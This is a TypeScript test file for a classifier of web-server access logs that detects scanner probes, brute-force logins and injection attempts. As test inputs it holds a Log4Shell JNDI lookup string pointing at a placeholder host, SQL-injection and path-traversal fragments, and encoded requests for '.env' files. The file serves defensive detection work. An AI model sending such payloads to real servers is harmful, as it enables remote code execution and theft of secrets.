import { readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classify } from "../../../lib/classify/classify.ts";
import { aContext, aLine, browser, parsed } from "./builders.ts";

const seeds = path.resolve(import.meta.dirname, "../../fixtures/seeds");
const read = (name: string) =>
  readFileSync(path.join(seeds, name), "utf8")
    .split("\n")
    .filter(Boolean)
    .map((line) => classify(parsed(line), aContext()));

describe("the logs that started this project", () => {
  it("counts 29 CGI probes, one malformed request and four of Apache's own in the scan of 22 March", () => {
    const judgements = read("cgi-scan-march-22.log");
    const count = (wanted: string): number =>
      judgements.filter(({ verdict, category }) => (category ?? verdict) === wanted).length;
    expect([count("cgi"), count("malformed_request"), count("internal"), count("ordinary")]).toEqual([
      29, 1, 4, 1,
    ]);
  });

  it("gives the one 403 among the 404s the outcome denied", () => {
    expect(read("cgi-scan-march-22.log").filter(({ outcome }) => outcome === "denied")).toHaveLength(1);
  });

  it("knows OPTIONS / RTSP/1.0", () => {
    const [judgement] = read("rtsp-options.log");
    expect(judgement).toMatchObject({
      verdict: "probe",
      category: "rtsp",
      outcome: "refused",
      source: "2a06:4880:1000::/64",
      address: "2a06:4880:1000::20",
    });
  });
});

describe("one line by itself", () => {
  const judge = (stated: Parameters<typeof aLine>[0]) => classify(aLine(stated), aContext());

  it("names all rules that match, the deciding one first", () => {
    const { category, rules } = judge({ target: "/cgi-bin/test.cgi", status: 404, userAgent: "Nikto/2.5" });
    expect(category).toBe("cgi");
    expect(rules[0]).toBe("cgi-bin-known-script");
    expect(rules).toContain("attack-tool-agent");
  });

  it("finds an attack in any field", () => {
    const attack = "${jndi:ldap://198.51.100.9/a}";
    for (const field of ["target", "referer", "userAgent"] as const) {
      expect(judge({ [field]: field === "target" ? `/?x=${attack}` : attack }).rules[0]).toBe("log4shell");
    }
  });

  it("takes a login page for a search only where it is not there or no person asks", () => {
    const target = "/wp-login.php";
    expect(judge({ target, status: 200 }).verdict).toBe("ordinary");
    expect(judge({ target, status: 404 }).category).toBe("cms");
    expect(judge({ target, status: 200, userAgent: null }).category).toBe("cms");
    expect(judge({ target, status: 404, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)" }).verdict).toBe(
      "ordinary",
    );
  });

  it("takes a posted login for guessing only where its form was never seen", () => {
    const login = { method: "POST", target: "/wp-login.php", status: 200 };
    expect(judge({ ...login, referer: "https://example.com/wp-login.php" }).verdict).toBe("ordinary");
    expect(judge({ ...login, userAgent: "python-requests/2.31" }).category).toBe("auth_brute_force");
  });

  it("does not take a library on an ordinary page for a scanner", () => {
    for (const userAgent of ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", null]) {
      expect(judge({ userAgent }).verdict).toBe("ordinary");
    }
  });

  it("reads a target through layers of encoding", () => {
    const written = [
      "/.env",
      "/%2eenv",
      "/%2Eenv",
      "/%252eenv",
      "/.%65nv",
      "/x/..%2f.env",
      "/%u002eenv",
      "\\.env",
      "/.ENV;x=1",
    ];
    for (const target of written) expect(judge({ target, status: 404 }).verdict, target).toBe("probe");
  });

  it("gives the same judgement again, from its caches too", () => {
    const line = aLine({ target: "/a?x=%27%20or%201=1--", referer: "https://example.com/'", status: 404 });
    expect(classify(line, aContext())).toEqual(classify(structuredClone(line), aContext()));
  });

  it("never throws, whatever the bytes", () => {
    const bytes = fc.string({
      unit: fc.integer({ min: 0, max: 255 }).map((code) => String.fromCharCode(code)),
      maxLength: 300,
    });
    const maybe = fc.option(bytes, { nil: null });
    fc.assert(
      fc.property(maybe, maybe, maybe, maybe, maybe, (target, method, referer, userAgent, forwardedFor) => {
        const line = aLine({
          target,
          method,
          referer,
          userAgent,
          forwardedFor,
          clientIp: forwardedFor ?? "-",
        });
        expect(["probe", "ordinary", "internal"]).toContain(
          classify(line, aContext({ trustedProxies: "10.0.0.0/8" })).verdict,
        );
      }),
      { numRuns: 500 },
    );
  });

  it("takes no longer than a blink for the longest hostile line", () => {
    const units = [
      "${",
      "{{",
      "() {,",
      "' or ",
      "../",
      "<",
      "select ",
      "union ",
      "%25",
      "a=b&",
      "$(",
      "/*",
      "[",
      "http://",
      "\\",
    ];
    for (const unit of units) {
      const startedAt = performance.now();
      judge({
        target: `/?x=${unit.repeat(16_000)}`,
        referer: unit.repeat(8000),
        userAgent: unit.repeat(8000),
      });
      expect(performance.now() - startedAt, unit).toBeLessThan(500);
    }
  });
});

describe("agents", () => {
  it("are a browser's, a crawler's or a tool's", () => {
    const judge = (userAgent: string) =>
      classify(aLine({ userAgent, target: "/phpmyadmin/", status: 404 }), aContext());
    expect(judge(browser).verdict).toBe("probe");
    expect(judge("Mozilla/5.0 (compatible; bingbot/2.0)").verdict).toBe("ordinary");
    expect(judge("Uptime-Kuma/1.23.11").verdict).toBe("ordinary");
  });
});
